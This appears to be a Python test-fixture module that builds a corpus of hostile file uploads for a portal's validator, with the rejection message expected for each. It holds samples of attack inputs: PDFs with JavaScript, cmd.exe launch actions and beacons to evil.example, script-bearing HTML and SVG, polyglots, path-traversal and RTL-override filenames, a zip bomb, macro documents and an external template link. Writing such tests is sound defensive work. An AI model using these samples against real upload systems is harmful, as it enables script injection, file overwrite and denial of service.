"""A corpus of hostile uploads, built in code (no binary files in the repository), each with the message
the portal must answer with.

`HOSTILE` lists cases: the field the file is sent to (see SCHEMA), the name it is sent under, the bytes, and
the exact message expected. tests/applications/test_hostile_files.py sends each one through the upload route.
The builders (`pdf`, `docx`, `png`, ...) make small valid files that the cases then twist.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from portal.core import storage

KB = 1024
FIELD_MAX_BYTES = 200 * KB
TOTAL_MAX_BYTES = 300 * KB

# A form with a file field of every kind the corpus needs; `max_total_bytes` keeps the total test small.
SCHEMA = {
    "max_total_bytes": TOTAL_MAX_BYTES,
    "sections": [{"key": "files", "title": "Files", "fields": [
        {"key": "project_title", "type": "short_text", "label": "Project title"},
        {"key": "budget_file", "type": "file", "label": "Budget (PDF)", "accept": [storage.PDF],
         "max_bytes": FIELD_MAX_BYTES},
        {"key": "letters", "type": "file", "label": "Letters of support", "accept": [storage.PDF],
         "max_bytes": FIELD_MAX_BYTES, "multiple": True},
        {"key": "workplan", "type": "file", "label": "Work plan", "accept": [storage.DOCX, storage.XLSX, storage.PDF],
         "max_bytes": FIELD_MAX_BYTES},
        {"key": "photo", "type": "file", "label": "Photo of the site", "accept": [storage.PNG, storage.JPEG],
         "max_bytes": FIELD_MAX_BYTES},
    ]}],
}


# --- builders of valid files -------------------------------------------------------------------------

def pdf(change: Callable[[pikepdf.Pdf], None] = lambda pdf: None, *, padding: int = 0, **save) -> bytes:
    """A one-page PDF with some text (and `padding` bytes of incompressible filler), changed by `change`."""
    document = pikepdf.new()
    document.add_blank_page(page_size=(612, 792))
    page = document.pages[0]
    page.obj.Resources = Dictionary(Font=Dictionary(F1=Dictionary(Type=Name.Font, Subtype=Name.Type1,
                                                                  BaseFont=Name.Helvetica)))
    page.obj.Contents = document.make_stream(b"BT /F1 12 Tf 72 720 Td (Budget table) Tj ET")
    if padding:
        # Deterministic bytes that deflate cannot shrink: a stream nobody draws.
        filler = b"".join(zlib.crc32(i.to_bytes(4, "big")).to_bytes(4, "big") for i in range(padding // 4 + 1))
        document.Root.Filler = document.make_stream(filler[:padding])
    change(document)
    out = io.BytesIO()
    document.save(out, compress_streams=False, **save)
    return out.getvalue()


def pdf_of_size(size: int) -> bytes:
    """A clean PDF of exactly `size` bytes."""
    first = pdf(padding=size)
    content = pdf(padding=max(0, 2 * size - len(first)))
    assert len(content) == size, (len(content), size)
    return content


def _zip(members: dict[str, bytes], *, compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as archive:
        for name, data in members.items():
            archive.writestr(zipfile.ZipInfo(name, date_time=(2026, 1, 1, 0, 0, 0)), data, compression)
    return out.getvalue()


CONTENT_TYPES = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
                 b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
                 b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
                 b'<Default Extension="xml" ContentType="application/xml"/>'
                 b'<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-'
                 b'officedocument.wordprocessingml.document.main+xml"/></Types>')
ROOT_RELS = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
             b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
             b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
             b'officeDocument" Target="word/document.xml"/></Relationships>')
DOCUMENT = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
            b'<w:body><w:p><w:r><w:t>Work plan</w:t></w:r></w:p></w:body></w:document>')


def docx_members() -> dict[str, bytes]:
    return {"[Content_Types].xml": CONTENT_TYPES, "_rels/.rels": ROOT_RELS, "word/document.xml": DOCUMENT}


def docx(**extra: bytes) -> bytes:
    """A minimal Word document, with `extra` members (name -> bytes) added."""
    return _zip({**docx_members(), **extra})


def xlsx() -> bytes:
    return _zip({"[Content_Types].xml": CONTENT_TYPES.replace(b"/word/document.xml", b"/xl/workbook.xml"),
                 "_rels/.rels": ROOT_RELS.replace(b"word/document.xml", b"xl/workbook.xml"),
                 "xl/workbook.xml": b'<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/'
                                    b'spreadsheetml/2006/main"><sheets/></workbook>'})


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(width: int = 2, height: int = 2) -> bytes:
    """A small grey PNG (or one that only declares `width` x `height` in its header)."""
    rows = b"".join(b"\x00" + b"\x80" * min(width, 16) for _ in range(min(height, 16)))
    return (storage.PNG_MAGIC + _chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
            + _chunk(b"IDAT", zlib.compress(rows)) + _chunk(b"IEND", b""))


def jpeg() -> bytes:
    """The smallest JPEG shape our check reads: SOI, a frame header (8x8), EOI."""
    return b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" \
           b"\xff\xc0\x00\x0b\x08\x00\x08\x00\x08\x01\x01\x11\x00\xff\xd9"


# --- twists -------------------------------------------------------------------------------------------

def _js_open_action(document):
    document.Root.OpenAction = Dictionary(S=Name.JavaScript, JS=String("app.alert('pwned')"))


def _launch(document):
    document.pages[0].obj.Annots = Array([Dictionary(
        Type=Name.Annot, Subtype=Name.Link, Rect=Array([72, 72, 144, 144]),
        A=Dictionary(S=Name.Launch, F=String("cmd.exe"), Win=Dictionary(F=String("cmd.exe"))))])


def _embedded(document):
    document.attachments["invoice.exe"] = pikepdf.AttachedFileSpec(document, b"MZ\x90\x00", mime_type="application/x-msdownload")


def _auto_action(document):
    document.pages[0].obj.AA = Dictionary(O=Dictionary(S=Name.URI, URI=String("https://evil.example/track")))


ZIP_WITH_HTML = _zip({"index.html": b"<script>alert(1)</script>"})
HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>\n"
SVG = (b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
       b"<script>alert(document.domain)</script></svg>\n")
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 48 + b"PE\x00\x00" + b"\x00" * 200
VBA_CONTENT_TYPES = CONTENT_TYPES.replace(
    b"</Types>", b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>').replace(
    b"wordprocessingml.document.main+xml", b"wordprocessingml.document.macroEnabled.main+xml")
EXTERNAL_TEMPLATE_RELS = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    b'attachedTemplate" Target="http://evil.example/template.dotm" TargetMode="External"/></Relationships>')


def zip_bomb_docx() -> bytes:
    """A Word document with one member of 120 MB of zeros, about 120 KB packed (1,000 to 1)."""
    return docx(**{"word/media/image1.png": bytes(120 * 1024 * 1024)})


def docm_named_docx() -> bytes:
    return _zip({**docx_members(), "[Content_Types].xml": VBA_CONTENT_TYPES,
                 "word/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 64})


def big_png_header() -> bytes:
    return png(width=100_000, height=100_000)


@dataclass(frozen=True)
class Case:
    """One hostile upload: sent to `field` as `name`; `message` is what the page must say."""

    id: str
    field: str
    name: str
    build: Callable[[], bytes]
    message: str


def _not(accepted: str, looks: str) -> str:
    return f"The file is not {accepted}: it looks like {looks}. Save or export it as PDF and upload it again."


OFFICE_ONLY = "The file is not a Word document, Excel workbook or PDF: it looks like {}. " \
              "Save or export it as one of those and upload it again."

HOSTILE: list[Case] = [
    Case("html-named-pdf", "budget_file", "budget.pdf", lambda: HTML, _not("a PDF", "an HTML web page")),
    Case("svg-with-script-named-pdf", "budget_file", "budget.pdf", lambda: SVG,
         _not("a PDF", "an SVG image, which can carry scripts")),
    Case("pdf-javascript-open-action", "budget_file", "budget.pdf", lambda: pdf(_js_open_action), storage.ACTIVE),
    Case("pdf-launch-action", "budget_file", "budget.pdf", lambda: pdf(_launch), storage.ACTIVE),
    Case("pdf-embedded-exe", "budget_file", "budget.pdf", lambda: pdf(_embedded), storage.ACTIVE),
    Case("pdf-automatic-page-action", "budget_file", "budget.pdf", lambda: pdf(_auto_action), storage.ACTIVE),
    Case("pdf-javascript-name-escaped", "budget_file", "budget.pdf",
         lambda: pdf().replace(b"%%EOF", b"% /J#53 (app.alert(1))\n%%EOF"), storage.ACTIVE),
    Case("pdf-zip-polyglot", "budget_file", "budget.pdf", lambda: pdf() + ZIP_WITH_HTML, storage.HIDDEN),
    Case("pdf-then-html-polyglot", "budget_file", "budget.pdf", lambda: pdf() + HTML, storage.HIDDEN),
    Case("html-then-pdf-polyglot", "budget_file", "budget.pdf", lambda: HTML + pdf(),
         _not("a PDF", "an HTML web page")),
    Case("truncated-pdf", "budget_file", "budget.pdf", lambda: pdf()[:600], storage.DAMAGED),
    Case("password-protected-pdf", "budget_file", "budget.pdf",
         lambda: pdf(encryption=pikepdf.Encryption(owner="o", user="secret", R=6)), storage.PASSWORD),
    Case("encrypted-pdf-without-password", "budget_file", "budget.pdf",
         lambda: pdf(encryption=pikepdf.Encryption(owner="o", user="", R=6)), storage.ENCRYPTED),
    Case("empty-file", "budget_file", "budget.pdf", lambda: b"", storage.EMPTY),
    Case("over-the-field-limit", "budget_file", "budget.pdf", lambda: pdf_of_size(250 * KB),
         "The file is 250 KB, larger than the 200 KB allowed here. Make it smaller (for a PDF: save it again "
         "with smaller images) and upload it again."),
    Case("exe-named-pdf", "budget_file", "budget.pdf", lambda: EXE, _not("a PDF", "a Windows program")),
    Case("png-named-pdf", "budget_file", "budget.pdf", png, _not("a PDF", "a PNG image")),
    Case("pdf-inside-zip-named-pdf", "budget_file", "budget.pdf", lambda: _zip({"budget.pdf": pdf()}),
         _not("a PDF", "a ZIP archive")),
    Case("docx-named-pdf-in-pdf-only-field", "budget_file", "budget.pdf", docx, _not("a PDF", "a Word document")),
    Case("double-extension-exe", "budget_file", "budget.pdf.exe", pdf,
         "The file's name ends in .exe, but the file is a PDF. Rename it to end in .pdf and upload it again."),
    Case("exe-with-double-extension", "budget_file", "budget.pdf.exe", lambda: EXE,
         _not("a PDF", "a Windows program")),
    Case("path-traversal-unix", "budget_file", "../../etc/passwd.pdf", pdf, storage.NAME_PATH),
    Case("path-traversal-windows", "budget_file", "..\\..\\x.pdf", pdf, storage.NAME_PATH),
    Case("absolute-path", "budget_file", "/etc/cron.d/job.pdf", pdf, storage.NAME_PATH),
    Case("windows-drive", "budget_file", "C:budget.pdf", pdf, storage.NAME_PATH),
    Case("dot-dot-only", "budget_file", "..", pdf, storage.NAME_PATH),
    Case("nul-in-name", "budget_file", "budget.pdf\x00.html", pdf, storage.NAME_HIDDEN),
    Case("rtl-override-exe-fdp", "budget_file", "invoice\u202efdp.exe", pdf, storage.NAME_HIDDEN),
    Case("rtl-override-on-a-program", "budget_file", "invoice\u202efdp.exe", lambda: EXE,
         _not("a PDF", "a Windows program")),
    Case("very-long-name", "budget_file", "b" * 300 + ".pdf", pdf, storage.NAME_LONG),
    Case("zip-bomb-docx", "workplan", "plan.docx", zip_bomb_docx, storage.OFFICE_BOMB),
    Case("docx-with-macros", "workplan", "plan.docx", docm_named_docx, storage.OFFICE_MACROS),
    Case("docx-with-embedded-object", "workplan", "plan.docx",
         lambda: docx(**{"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(64)}),
         storage.OFFICE_NESTED),
    Case("docx-with-nested-zip", "workplan", "plan.docx",
         lambda: docx(**{"word/media/image1.png": ZIP_WITH_HTML}), storage.OFFICE_NESTED),
    Case("docx-with-path-traversal-member", "workplan", "plan.docx",
         lambda: docx(**{"../../../tmp/evil.sh": b"#!/bin/sh\n"}), storage.OFFICE_PATHS),
    Case("docx-with-external-template", "workplan", "plan.docx",
         lambda: docx(**{"word/_rels/settings.xml.rels": EXTERNAL_TEMPLATE_RELS}), storage.OFFICE_EXTERNAL),
    Case("docx-with-html-appended", "workplan", "plan.docx", lambda: docx() + HTML, storage.HIDDEN_OFFICE),
    Case("plain-zip-in-office-field", "workplan", "plan.docx", lambda: ZIP_WITH_HTML,
         OFFICE_ONLY.format("a ZIP archive")),
    Case("png-with-zip-appended", "photo", "site.png", lambda: png() + ZIP_WITH_HTML, storage.HIDDEN_IMAGE),
    Case("png-decompression-bomb", "photo", "site.png", big_png_header, storage.HUGE_IMAGE),
    Case("svg-in-image-field", "photo", "site.png", lambda: SVG,
         "The file is not a PNG image or JPEG image: it looks like an SVG image, which can carry scripts. "
         "Save or export it as one of those and upload it again."),
    Case("pdf-in-image-field", "photo", "site.png", pdf,
         "The file is not a PNG image or JPEG image: it looks like a PDF. "
         "Save or export it as one of those and upload it again."),
]

# Files every field of SCHEMA accepts: the corpus is only meaningful if these pass.
CLEAN: list[tuple[str, str, Callable[[], bytes], str]] = [
    ("budget_file", "budget.pdf", pdf, storage.PDF),
    ("workplan", "plan.docx", docx, storage.DOCX),
    ("workplan", "plan.xlsx", xlsx, storage.XLSX),
    ("photo", "site.png", png, storage.PNG),
    ("photo", "site.jpg", jpeg, storage.JPEG),
]
